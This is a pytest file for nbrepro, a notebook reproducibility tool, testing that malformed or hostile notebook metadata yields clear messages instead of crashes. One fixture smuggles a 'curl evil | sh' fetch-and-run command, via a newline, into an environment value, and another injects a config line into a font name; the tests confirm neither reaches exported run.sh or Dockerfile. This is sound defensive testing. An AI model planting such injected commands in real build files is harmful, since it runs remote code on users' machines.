"""Read once, at the door (``nbrepro.record.document``): each malformed shape the
attack audit of issue 10 found, through ``check``, ``diff`` and ``export``.

Every case crashed a command with a traceback before the door existed (exit
status 1, which ``check`` documents as drift). Now each gives a finding, a
problem naming what was dropped, or exit status 2 with a message.
"""

import json
import os
import stat
import time
from pathlib import Path

import nbformat
import pytest
from fuzz_mutations import SEEDS
from test_fuzz import run_cli

from nbrepro import errors
from nbrepro.record import atomic, document
from nbrepro.run import runner

PIP = json.loads((SEEDS / "pip.ipynb").read_text())
CONDA = json.loads((SEEDS / "conda.ipynb").read_text())


def environment(nb):
    meta = nb["metadata"]["nbrepro"]
    return meta["snapshots"][meta["current"]]["environment"]


def first_run(nb):
    return next(iter(nb["metadata"]["nbrepro"]["runs"].values()))


def _dist(nb):
    return environment(nb)["pip"]["distributions"]


def _set_dist(field, value):
    def apply(nb):
        _dist(nb)[0][field] = value

    return apply


def _del_dist(field):
    def apply(nb):
        del _dist(nb)[0][field]

    return apply


def _env(field, value):
    def apply(nb):
        environment(nb)[field] = value

    return apply


def _python_version(value):
    def apply(nb):
        environment(nb)["python"]["version"] = value
        environment(nb)["python"].pop("version_info", None)

    return apply


def _conda_package(value):
    def apply(nb):
        environment(nb)["conda"]["packages"][0] = value

    return apply


def _channel_urls(nb):
    environment(nb)["conda"]["channel_urls"] = "x"


def _determinism_newline(nb):
    for run in nb["metadata"]["nbrepro"]["runs"].values():
        run["determinism"]["env"]["PYTHONHASHSEED"] = "0\nRUN curl evil | sh"


def _fonts_where_a_path(nb):
    for run in nb["metadata"]["nbrepro"]["runs"].values():
        run["fonts"] = {
            "matplotlib": [
                {"family": "sans-serif", "name": "X\nfont.family: evil", "where": "/home/alice"}
            ]
        }


def _surrogate_name(nb):
    _dist(nb)[0]["name"] = "x\ud800y"


CASES = {
    "distribution-a-string": (PIP, lambda nb: _dist(nb).insert(0, "numpy")),
    "distribution-without-name": (PIP, _del_dist("name")),
    "distribution-without-version": (PIP, _del_dist("version")),
    "source-a-string": (PIP, _set_dist("source", "https://host/x.tar.gz")),
    "name-a-number": (PIP, _set_dist("name", 1.5)),
    "version-nan": (PIP, _set_dist("version", float("nan"))),
    "gpu-a-string": (PIP, _env("gpu", "none")),
    "platform-a-number": (PIP, _env("platform", 1.5)),
    "python-version-a-list": (PIP, _python_version(["3", "11"])),
    "no-python-version": (PIP, _python_version(None)),
    "conda-package-a-bare-name": (CONDA, _conda_package("numpy")),
    "conda-package-egg": (CONDA, _conda_package("#egg=x")),
    "channel-urls-a-string": (CONDA, _channel_urls),
    "newline-in-a-determinism-value": (PIP, _determinism_newline),
    "lone-surrogate-in-a-name": (PIP, _surrogate_name),
    "fonts-where-a-path": (PIP, _fonts_where_a_path),
}


def write_case(tmp_path, case):
    seed, apply = CASES[case]
    nb = json.loads(json.dumps(seed))
    apply(nb)
    path = tmp_path / "case.ipynb"
    path.write_text(json.dumps(nb, indent=1, allow_nan=True), encoding="utf-8")
    return path


def assert_clean(result):
    status, out, err = result
    assert "Traceback" not in out + err, err
    assert status in (0, 1, 2), (status, err)
    if status == 2:
        assert err.splitlines()[-1].startswith("nbrepro "), err
    return result


@pytest.mark.parametrize("case", sorted(CASES))
def test_malformed_metadata_gives_a_message_never_a_traceback(tmp_path, case):
    path = write_case(tmp_path, case)
    before = path.read_bytes()
    assert_clean(run_cli("check", path, "--against", SEEDS / "snapshot.json"))
    assert_clean(run_cli("check", path, "--against", SEEDS / "snapshot.json", "--json"))
    assert_clean(run_cli("diff", path, SEEDS / "requirements.txt"))
    status, out, err = assert_clean(run_cli("export", path, "-o", tmp_path / "out"))
    if status == 0:
        # What was dropped is said: a metadata warning, in the README too.
        assert "warning: metadata:" in err, err
        readme = (tmp_path / "out" / "README.md").read_text()
        assert "**Damaged nbrepro records**" in readme
    assert path.read_bytes() == before


def test_a_dropped_distribution_is_named_and_the_rest_is_kept(tmp_path):
    path = write_case(tmp_path, "name-a-number")
    doc = document.read_notebook(path)
    kept = environment(doc.nb)  # the raw document is untouched
    assert kept["pip"]["distributions"][0]["name"] == 1.5
    snapshot = doc.snapshots[doc.current]
    assert len(snapshot["environment"]["pip"]["distributions"]) == len(_dist(PIP)) - 1
    assert any("pip/distributions/0 does not match the schema" in p for p in doc.problems)


def test_a_dropped_conda_package_renumbers_the_overrides():
    meta = json.loads(json.dumps(CONDA["metadata"]["nbrepro"]))
    env = meta["snapshots"][meta["current"]]["environment"]
    count = len(env["conda"]["packages"])
    env["conda"]["packages"][1] = "numpy"
    env["conda"]["overrides"] = {"1": {"name": "gone"}, "3": {"name": "kept"}}
    read, problems = document.read_meta(meta)
    conda = read["snapshots"][read["current"]]["environment"]["conda"]
    assert len(conda["packages"]) == count - 1
    assert conda["overrides"] == {"2": {"name": "kept"}}
    assert len(problems) == 1 and "conda/packages/1" in problems[0]


def test_no_python_version_stops_the_export_with_a_reason(tmp_path):
    path = write_case(tmp_path, "no-python-version")
    status, _, err = run_cli("export", path, "-o", tmp_path / "out")
    assert status == 2 and "names no Python version" in err


def test_a_newline_in_a_determinism_value_never_reaches_run_sh(tmp_path):
    path = write_case(tmp_path, "newline-in-a-determinism-value")
    status, _, err = run_cli("export", path, "-o", tmp_path / "out")
    assert status == 0, err
    assert "PYTHONHASHSEED holds a control character" in err
    assert "curl evil" not in (tmp_path / "out" / "run.sh").read_text()
    assert "curl evil" not in (tmp_path / "out" / "Dockerfile").read_text()


def test_a_lone_surrogate_prints_as_an_escape(tmp_path):
    path = write_case(tmp_path, "lone-surrogate-in-a-name")
    status, out, err = assert_clean(run_cli("diff", path, SEEDS / "pip.ipynb", "--fail-on", "info"))
    assert status == 1 and "x\ufffdy" in out
    assert "unpaired surrogate" in out + err


@pytest.mark.parametrize("depth", [500, 1000, 3000])
def test_deep_json_is_refused_with_a_message(tmp_path, depth):
    nb = json.loads(json.dumps(PIP))
    nb["metadata"]["nbrepro"]["kernel"] = "__deep__"
    text = json.dumps(nb).replace('"__deep__"', "[" * depth + "]" * depth)
    path = tmp_path / "deep.ipynb"
    path.write_text(text)
    for argv in (
        ("check", path, "--against", SEEDS / "snapshot.json"),
        ("diff", SEEDS / "pip.ipynb", path),
        ("export", path, "-o", tmp_path / "out"),
    ):
        status, _, err = assert_clean(run_cli(*argv))
        assert status == 2 and "nests deeper than 100 levels" in err, err


@pytest.mark.parametrize(
    "text",
    [
        "dependencies:\n" + "- " * 3000 + "x\n",
        "dependencies: " + "[" * 3000 + "]" * 3000 + "\n",
        "dependencies:\n" + "".join("  " * i + "- a:\n" for i in range(1, 600)),
    ],
)
def test_deep_yaml_is_refused_with_a_message(tmp_path, text):
    path = tmp_path / "environment.yml"
    path.write_text(text)
    status, _, err = assert_clean(run_cli("diff", SEEDS / "pip.ipynb", path))
    assert status == 2, err


@pytest.mark.parametrize(
    "line, message",
    [
        ("this is (( no requirement, no YAML\n", "is none of: notebook"),
        ("name: value, a YAML mapping without dependencies\n", "YAML without a dependencies"),
    ],
)
def test_ten_megabytes_of_text_that_is_no_format_is_refused_fast(tmp_path, line, message):
    path = tmp_path / "big.txt"
    path.write_text(line * (10_000_000 // len(line)))
    assert path.stat().st_size > 9_000_000
    started = time.monotonic()
    status, _, err = assert_clean(run_cli("diff", SEEDS / "pip.ipynb", path))
    elapsed = time.monotonic() - started
    assert status == 2 and message in err, err
    assert elapsed < 3, elapsed  # was 24 s in PyYAML, whatever the text


@pytest.mark.parametrize("content", [b"", b"  \n\n\t\n"])
def test_an_empty_file_is_called_empty(tmp_path, content):
    path = tmp_path / "empty.txt"
    path.write_bytes(content)
    status, _, err = assert_clean(run_cli("diff", SEEDS / "pip.ipynb", path))
    assert status == 2 and "is empty" in err and "requirements.txt (" not in err


def test_an_internal_error_is_exit_70_and_one_line_naming_the_version(monkeypatch):
    from nbrepro import __version__
    from nbrepro.cli import check

    def broken(args):
        raise KeyError("boom")

    monkeypatch.setattr(check, "run", broken)
    monkeypatch.delenv("NBREPRO_TRACEBACK", raising=False)
    status, out, err = run_cli("check", SEEDS / "pip.ipynb")
    assert status == errors.INTERNAL_ERROR == 70
    assert err == "nbrepro: %s\n" % errors.bug_message(KeyError("boom"))
    assert err.startswith("nbrepro: this is a bug in nbrepro %s: KeyError" % __version__)
    assert "Traceback" not in err


def test_a_new_output_file_gets_the_umask_mode_and_a_replaced_one_keeps_its_own(tmp_path):
    nb = nbformat.reads((SEEDS / "pip.ipynb").read_text(), as_version=4)
    old = os.umask(0o027)
    try:
        fresh = tmp_path / "new.ipynb"
        runner.write_atomically(nb, fresh)
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o640  # was 0600
        os.chmod(str(fresh), 0o604)
        runner.write_atomically(nb, fresh)
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o604
    finally:
        os.umask(old)


def _dead_pid():
    pid = 4_000_000
    while True:
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            return pid
        except PermissionError:
            pass
        pid += 1


def test_leftovers_of_an_interrupted_write_go_on_the_next_write(tmp_path):
    nb = nbformat.reads((SEEDS / "pip.ipynb").read_text(), as_version=4)
    target = tmp_path / "nb.ipynb"
    dead = tmp_path / (".nb.ipynb.nbrepro-%d.abc123.tmp" % _dead_pid())
    alive = tmp_path / (".nb.ipynb.nbrepro-%d.def456.tmp" % os.getppid())
    other = tmp_path / ".other.ipynb.nbrepro-1.x.tmp"
    for path in (dead, alive, other):
        path.write_text("half a notebook")
    runner.write_atomically(nb, target)
    assert not dead.exists() and alive.exists() and other.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        [alive.name, other.name, "nb.ipynb"]
    )
    # An export's folder and zip clean their own leftovers the same way.
    zip_path = tmp_path / "b.zip"
    stale_zip = tmp_path / (".b.zip.nbrepro-%d.q.tmp" % _dead_pid())
    stale_dir = tmp_path / (".b.zip.nbrepro-%d.stagingx" % _dead_pid())
    stale_zip.write_text("x")
    stale_dir.mkdir()
    (stale_dir / "run.sh").write_text("x")
    assert run_cli("export", SEEDS / "pip.ipynb", "-o", zip_path)[0] == 0
    assert zip_path.is_file() and not stale_zip.exists() and not stale_dir.exists()


def test_remove_stale_keeps_a_running_writers_file_until_it_is_a_day_old(tmp_path):
    target = tmp_path / "nb.ipynb"
    alive = tmp_path / (".nb.ipynb.nbrepro-%d.x.tmp" % os.getppid())
    alive.write_text("x")
    assert atomic.remove_stale(target) == []
    assert atomic.remove_stale(target, now=time.time() + atomic.STALE_SECONDS + 1) == [alive.name]


def test_the_door_reads_what_the_old_notebook_reader_read(tmp_path):
    """A version 3 notebook goes through nbformat's converter; a v4 one is read
    as plain JSON and its bytes kept for the bundle."""
    doc = document.read_notebook(SEEDS / "pip.ipynb")
    assert doc.raw == (SEEDS / "pip.ipynb").read_bytes() and doc.problems == []
    v3 = tmp_path / "v3.ipynb"
    v3.write_text(
        json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": []})
    )
    old = document.read_notebook(v3)
    assert old.raw is None and old.nb["nbformat"] == 4 and old.current is None


@pytest.mark.parametrize(
    "name", sorted(p.name for p in (Path(__file__).parents[1] / "vectors" / "cells").glob("*.json"))
)
def test_cell_records_read_as_the_shared_vectors_say(name):
    """The same reading as src/record/document.ts's readCellRecords."""
    vector = json.loads((Path(__file__).parents[1] / "vectors" / "cells" / name).read_text())
    problems = []
    cells = document.code_cells({"cells": vector["cells"]}, problems)
    assert [cell.record for cell in cells] == vector["expected"]["records"]
    assert problems == vector["expected"]["problems"]


def test_a_cell_record_the_door_cannot_read_is_named_not_dropped_silently():
    """A code cell's metadata.nbrepro that is no record is read as none (the cell
    counts as unrecorded), and the notebook's problems say which cell and why."""
    nb = json.loads(json.dumps(PIP))
    code = [cell for cell in nb["cells"] if cell["cell_type"] == "code"]
    code[0]["metadata"]["nbrepro"] = "x"
    code[1]["metadata"]["nbrepro"] = {
        "env": "not an id",
        "src": code[1]["metadata"]["nbrepro"]["src"],
    }
    code[2]["metadata"]["nbrepro"]["run"] = [1]
    doc = document.notebook_from_value(nb, "nb.ipynb")
    assert doc.problems == [
        "cell 2: metadata.nbrepro is a string, not an object; ignored",
        "cell 3: metadata.nbrepro has no valid env and src ids; ignored",
        "cell 4: metadata.nbrepro.run is not an id; ignored",
    ]
    assert [cell.record for cell in doc.code_cells[:2]] == [None, None]
    assert "run" not in doc.code_cells[2].record
    assert document.notebook_from_value(PIP, "nb.ipynb").problems == []


def test_the_sniffer_tells_formats_by_content():
    assert document.sniff("") == "empty"
    assert document.sniff(" {") == "json"
    assert document.sniff("# c\n@EXPLICIT\nhttps://x/a-1-0.conda") == "explicit"
    assert document.sniff("name: x\ndependencies:\n  - a") == "yaml"
    assert document.sniff("name: x\nchannels: [a]\n") == "requirements"
    assert document.sniff("numpy==1\n") == "requirements"


def test_paths_with_nul_are_unreadable_not_a_crash():
    with pytest.raises(errors.Unreadable):
        document.read_bytes("a\x00b")


READ_VECTORS = sorted((SEEDS.parents[1] / "vectors" / "metadata").glob("*-read-*.json"))


@pytest.mark.parametrize("path", READ_VECTORS, ids=[p.stem for p in READ_VECTORS])
def test_read_vector(path):
    """Shared with src/record/document.ts (test/ts/record/document.spec.ts); written by
    make_read_vectors.py."""
    from make_read_vectors import kept

    vector = json.loads(path.read_text(encoding="utf-8"))
    frozen = json.dumps(vector, sort_keys=True)
    meta, problems = document.read_meta(vector["read"])
    assert meta == vector["expected"]["notebook"]
    assert kept(problems) == vector["expected"]["problems"]
    assert json.dumps(vector, sort_keys=True) == frozen  # the input is not modified


def test_there_are_read_vectors_and_the_ts_schemas_are_the_schemas():
    assert len(READ_VECTORS) >= 7
    root = SEEDS.parents[2]
    for name in ("snapshot.schema.json", "notebook.schema.json"):
        assert (root / "src" / "data" / name).read_bytes() == (root / "schema" / name).read_bytes()
